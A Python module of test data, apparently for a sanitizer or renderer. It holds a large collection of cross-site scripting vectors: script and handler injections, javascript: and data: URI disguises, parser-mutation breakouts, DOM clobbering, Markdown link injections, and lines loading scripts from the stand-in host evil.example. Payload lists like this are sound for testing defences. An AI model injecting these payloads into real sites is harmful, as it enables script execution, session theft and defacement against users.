"""Texts that would run `pwned()` in a browser, or break a page, if a site wrote them out as they are.

They cover the kinds that lists of cross-site scripting vectors know: elements that run, handlers,
schemes and their disguises, broken tags, contexts that end early, foreign content, and texts that a
parser turns into something else (mutations)."""

import random

ELEMENTS = """
<script>pwned()</script>
<SCRIPT>pwned()</SCRIPT>
<scr<script>ipt>pwned()</scr</script>ipt>
<script src="https://evil.example/x.js"></script>
<script src=//evil.example/x.js></script>
<script src=data:,pwned()></script>
<script/src="data:text/javascript,pwned()"></script>
<script >pwned()</script >
<script\tx>pwned()</script\ty>
<script>/*</script><script>*/pwned()</script>
<script type=module>pwned()</script>
<script>pwned()
<<script>pwned();//<</script>
</script><script>pwned()</script>
<script xmlns="http://www.w3.org/1999/xhtml">pwned()</script>
<script type="text/vbscript">pwned()</script>
<iframe src="javascript:pwned()"></iframe>
<iframe srcdoc="<script>parent.pwned()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.pwned()&gt;"></iframe>
<iframe src="data:text/html,<script>parent.pwned()</script>"></iframe>
<iframe onload=pwned()></iframe>
<iframe src="https://evil.example/"></iframe>
<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>
<iframe src="https://www.youtube.com/embed/x" onload="pwned()"></iframe>
<frameset onload=pwned()><frame src="javascript:pwned()"></frameset>
<object data="javascript:pwned()"></object>
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="https://evil.example/x"></object>
<object><param name="src" value="javascript:pwned()"></object>
<embed src="javascript:pwned()">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyIvPg==">
<applet code="x" codebase="javascript:pwned()"></applet>
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel="import" href="data:text/html,<script>pwned()</script>">
<link rel=preload as=script href="https://evil.example/x.js" onload=pwned()>
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url("javascript:pwned()")}</style>
<style onload=pwned()></style>
<style><img src="</style><img src=x onerror=pwned()>"></style>
<base href="https://evil.example/">
<base href="javascript:pwned();//">
<meta http-equiv="refresh" content="0;url=javascript:pwned()">
<meta http-equiv=refresh content="0; url=data:text/html,<script>pwned()</script>">
<meta http-equiv="Set-Cookie" content="a=<script>pwned()</script>">
<form action="javascript:pwned()"><input type=submit></form>
<form><button formaction="javascript:pwned()">x</button></form>
<form id=x></form><button form=x formaction="javascript:pwned()">x</button>
<isindex type=image src=1 onerror=pwned()>
<input type=image src=x onerror=pwned()>
<input autofocus onfocus=pwned()>
<input type=checkbox autofocus onfocus=pwned()>
<select autofocus onfocus=pwned()><option>x</option></select>
<textarea autofocus onfocus=pwned()></textarea>
<keygen autofocus onfocus=pwned()>
<button autofocus onfocus=pwned()>x</button>
<a href=x autofocus tabindex=1 onfocus=pwned()>x</a>
<video><source onerror=pwned()></video>
<video src=x onerror=pwned()></video>
<video poster="javascript:pwned()"></video>
<audio src=x onerror=pwned()></audio>
<img src=x onerror=pwned()>
<img src=x onerror="pwned()"//>
<img/src=x/onerror=pwned()>
<img src="x` `<script>pwned()</script>"` `>
<img src='x'onerror='pwned()'>
<img \"\"\"><script>pwned()</script>\">
<img src=x:x onerror=pwned()
<img src=x onerror=pwned() //
<image src=x onerror=pwned()>
<img src="x" alt="``onerror=pwned()">
<img srcset="x" onerror=pwned()>
<img lowsrc="javascript:pwned()">
<img dynsrc="javascript:pwned()">
<img src=x onerror=\"&#112;&#119;&#110;&#101;&#100;&#40;&#41;\">
<body onload=pwned()>
<body background="javascript:pwned()">
<html onmouseover=pwned()>
<bgsound src="javascript:pwned()">
<table background="javascript:pwned()"><td background="javascript:pwned()">x</table>
<details open ontoggle=pwned()>x</details>
<marquee onstart=pwned()>x</marquee>
<dialog open onclose=pwned()>x</dialog>
<div style="background:url(javascript:pwned())">x</div>
<div style="width:expression(pwned())">x</div>
<div style="x:\\65xpression(pwned())">x</div>
<div style="-moz-binding:url(https://evil.example/x#y)">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div>
<div style="background-image:url('https://evil.example/track.gif')">x</div>
<div style="color:red;/*x*/position:absolute">x</div>
<div style='animation:x 1s' onanimationstart=pwned()>x</div>
<svg onload=pwned()>
<svg/onload=pwned()>
<svg><script>pwned()</script></svg>
<svg><script xlink:href="data:,pwned()"></script></svg>
<svg><script href="data:,pwned()"/></svg>
<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:pwned() /><a id=x><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=pwned()></svg>
<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>
<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>#x"/></svg>
<svg><style><img src="</style><img src=x onerror=pwned()>"></svg>
<svg><title><img src=x onerror=pwned()></title></svg>
<svg><desc><noscript><img src=x onerror=pwned()></noscript></desc></svg>
<math><mi xlink:href="javascript:pwned()">x</mi></math>
<math href="javascript:pwned()">x</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:pwned()">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=pwned()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>
<svg></p><style><a id="</style><img src=x onerror=pwned()>">
<noscript><p title="</noscript><img src=x onerror=pwned()>">
<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>
<noframes><img title="</noframes><img src=x onerror=pwned()>"></noframes>
<xmp><img title="</xmp><img src=x onerror=pwned()>"></xmp>
<title><img title="</title><img src=x onerror=pwned()>"></title>
<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>
<template><img src=x onerror=pwned()></template>
<template shadowrootmode=open><img src=x onerror=pwned()></template>
<plaintext><img src=x onerror=pwned()>
<listing>&lt;img src=x onerror=pwned()&gt;</listing>
<select><template><img src=x onerror=pwned()></template></select>
<select><style></select><img src=x onerror=pwned()></style>
<table><tr><td><style></table><img src=x onerror=pwned()></style>
<a href="x"><a href="javascript:pwned()">y</a></a>
<p><svg><p><style><g title="</style><img src=x onerror=pwned()>">
<!--><img src=x onerror=pwned()>-->
<!---><img src=x onerror=pwned()>-->
<!--x--!><img src=x onerror=pwned()>-->
<!-- --><img src=x onerror=pwned()>-->
<!--[if gte IE 4]><script>pwned()</script><![endif]-->
<![if<iframe/onload=pwned()//]>
<!x><img src=x onerror=pwned()>
<?x><img src=x onerror=pwned()>?>
<? echo "x"><script>pwned()</script> ?>
<![CDATA[<img src=x onerror=pwned()>]]>
<![CDATA[]]><img src=x onerror=pwned()>]]>
<!DOCTYPE x [<!ENTITY y "<script>pwned()</script>">]>&y;
<%<img src=x onerror=pwned()>
</%0aa onmouseover=pwned()>
</ a onclick=pwned()>
<//script src=x>pwned()
<a"b onclick=pwned()>x</a>
<a<b onclick=pwned()>x</a>
<a href='x'' onclick=pwned()>x</a>
<a =x onclick=pwned()>x</a>
<a x="1"onclick=pwned()>y</a>
<a\x0bonclick=pwned()>x</a>
<a\x0conclick=pwned()>x</a>
<b/onclick=pwned()>x</b>
<b onclick
=
pwned()>x</b>
<custom-element onclick=pwned()>x</custom-element>
<x onclick=pwned()>x</x>
<a:b onclick=pwned()>x</a:b>
<b ONCLICK=pwned()>x</b>
<b onclick="pwned()" onclick="pwned()">x</b>
<b title="x" onclick=pwned() title="y">x</b>
<a title='"><img src=x onerror=pwned()>'>x</a>
<a title="'><img src=x onerror=pwned()>">x</a>
<img alt="&quot;&gt;&lt;img src=x onerror=pwned()&gt;" src=x>
"><img src=x onerror=pwned()>
'><img src=x onerror=pwned()>
" onmouseover="pwned()
' onmouseover='pwned()
` onmouseover=`pwned()
javascript:pwned()
--><img src=x onerror=pwned()>
]]><img src=x onerror=pwned()>
*/pwned()/*
</textarea><img src=x onerror=pwned()>
</title><img src=x onerror=pwned()>
</style><img src=x onerror=pwned()>
</div></div></article></main></div></body></html><img src=x onerror=pwned()>
</p></li></ul></blockquote></td></tr></table></main><b>x
{{constructor.constructor('pwned()')()}}
{{{site.title}}}<b>{{#x}}
${pwned()}
&lt;img src=x onerror=pwned()&gt;
&#60;img src=x onerror=pwned()&#62;
&#x3c;script&#x3e;pwned()&#x3c;/script&#x3e;
+ADw-script+AD4-pwned()+ADw-/script+AD4-
\uff1cscript\uff1epwned()\uff1c/script\uff1e
\u202e<img src=x onerror=pwned()>
<img src=x onerror=pwned()>\u2028<b>
<form name=location></form><a id=search></a><img name=getElementById>
<a id=documentElement><a id=documentElement name=dataset href="x:root">
<img name=querySelector><form id=localStorage><input name=theme></form>
<a id="page.main">main</a><a id="page.contents">contents</a><b class="search-open theme-button">x</b>
""".strip("\n")

# Vectors that contain line ends.
_JOINED = ["<b onclick\n=\npwned()>x</b>"]


def _elements():
    text = ELEMENTS
    for joined in _JOINED:
        text = text.replace(joined, "")
    return [line for line in text.split("\n") if line] + _JOINED


EVENTS = """abort animationend animationstart auxclick beforeinput beforetoggle blur canplay click
    contextmenu copy cut dblclick drag dragstart drop error focus focusin fullscreenchange hashchange
    input invalid keydown load loadstart message mousedown mouseenter mousemove mouseover mousewheel
    pageshow paste pointerdown pointerenter pointerover popstate progress resize scroll scrollend
    search select submit toggle touchstart transitionend unload wheel""".split()

ADDRESSES = [
    "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "\x01javascript:pwned()",
    "java\tscript:pwned()", "java&Tab;script:pwned()", "java&NewLine;script:pwned()",
    "java&#9;script:pwned()", "java&#x0A;script:pwned()", "java&#13;script:pwned()",
    "&#106;avascript:pwned()", "&#0000106avascript:pwned()", "&#x6A;avascript:pwned()",
    "javascript&colon;pwned()", "javascript&#58;pwned()", "javascript&#0058pwned()",
    "javascript:&#112;wned&lpar;&rpar;", "&#1;javascript:pwned()", "&#14; javascript:pwned()",
    "javascript://x%0Apwned()", "javascript:/*--></title>*/pwned()", "vbscript:pwned()",
    "livescript:pwned()", "mocha:pwned()", "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "data:,pwned()",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'/>", "blob:x",
    "filesystem:https://x/y", "file:///etc/passwd", "view-source:x", "about:blank", "feed:javascript:x",
    "jar:x", "ms-its:x", "intent://x#Intent;S.browser_fallback_url=javascript:pwned();end",
]


def schemes():
    for address in ADDRESSES:
        quoted = address.replace('"', "&quot;")
        yield f'<a href="{quoted}">x</a>'
        yield f'<img src="{quoted}">'


def markdown():
    """Returns the same attacks in Markdown syntax."""
    for address in ADDRESSES:
        bare = address.replace("<", "%3C").replace(">", "%3E").replace(" ", "%20")
        yield f"[x]({bare})"
        yield f"[x](<{address.replace('<', '%3C').replace('>', '%3E').strip()}>)"
        yield f"![x]({bare})"
        yield f"<{bare}>"
        yield f"[[{address}]]"
        yield f"![[{address}|x]]"
    yield '[x](https://a "\\" onmouseover=\\"pwned()")'
    yield "[x](https://a?\"onmouseover=pwned()//)"
    yield "[x](<https://a\" onmouseover=\"pwned()>)"
    yield "![\" onerror=\"pwned()](x.png)"
    yield "![x](x.png '\" onerror=\"pwned()')"
    yield "![<img src=x onerror=pwned()>](x.png)"
    yield "[<img src=x onerror=pwned()>](x)"
    yield "<https://a\"onmouseover=pwned()>"
    yield "https://a\"onmouseover=\"pwned()"
    yield "www.a.b<script>pwned()</script>"
    yield "a@b.c<img/src=x/onerror=pwned()>"


OWN = [
    "<b>" * 600 + "x", "<div>" * 150 + "</div>" * 400, "<p><table><tr><td><p></table></div>",
    "<table><tr><b><td><i></table></b></i></td>", "<ul><li><div></ul></li></div></ul>",
    "<a><div><a><p></a></div></a>", "<b><p><i><b></p></i></b>", "<h1><h2><h3></h1></h2></h3>",
    "<details><summary><details><summary></details></summary>", "<ruby><rt><ruby><rp></ruby></rt>",
    "<dl><dd><dt><dd></dl></dd><dd>", "<picture><div></picture></div>", "<video><p></video></p>",
    "<nobr><nobr></nobr><nobr>", "<font><table><font><tr><td></font></table></font>",
    "<li><li></li><td></td><tr></tr><caption></caption><option></option>",
    "<q cite='javascript:pwned()' title=<b>>x</q>", "<img src=\"x\" alt='<!--' title='-->'>",
    "<a href=\"//evil.example\" target=_top rel=opener>x</a>", "<a href=\\\\evil.example>x</a>",
    "<img src=x width=expression(pwned()) height='1;url(x)'>", "<font color='red;x:expression(1)'>x",
    "<ol start='1\" onclick=\"pwned()'><li value=x>y</ol>", "<td onclick=pwned()>x</td>",
    "<i\u00a0onclick=pwned()>x</i>", "<\u0130mg src=x onerror=pwned()>", "<ſcript>pwned()</ſcript>",
    "<img src=x\u3000onerror=pwned()>", "&lt<img src=x onerror=pwned()>", "<a href=x&#62;&#34;onclick=pwned()>y</a>",
    "<br clear=\"all\" onclick=pwned()><wbr onclick=pwned()><hr size='1' onclick=pwned()>",
    "<iframe src=https://evil.example></iframe </iframe><img src=x onerror=pwned()>",
]

_PIECES = """<div> </div> <p> </p> <b> </b> <i> </i> <a href=x> </a> <table> </table> <tr> <td> </td>
    <ul> <li> </ul> <dl> <dd> <h2> </h2> <details> <summary> </details> <pre> </pre> <iframe> </iframe>
    <svg> </svg> <math> <style> </style> <script> </script> <title> <textarea> </select> <select>
    <!-- --> <!-->  <![CDATA[ ]]> <?x ?> " ' ` > < = / & &lt; \\ * ** _ [x](y) ![x](y.png) ` ~~ == |
    <img src=x onerror=pwned()> <span title=" <span title=' onclick=pwned() <center> <video> <ruby> <rt>
    <nobr> <font color=red> <br> <hr> <input type=checkbox> <caption> <template> <noscript> x y""".split()


def soups(count, seed=7):
    """Returns tags and their parts in random order."""
    chance = random.Random(seed)
    for _ in range(count):
        pieces = chance.choices(_PIECES, k=chance.randint(3, 14))
        yield chance.choice(["", " ", "\n"]).join(pieces)


def handlers():
    for event in EVENTS:
        yield f"<b tabindex=0 on{event}=pwned()>x</b>"


def html():
    """Returns all vectors that are HTML."""
    return [*_elements(), *handlers(), *schemes(), *OWN]


def short():
    """Returns short vectors for names and titles."""
    return [text for text in _elements() if len(text) < 90 and "\n" not in text]
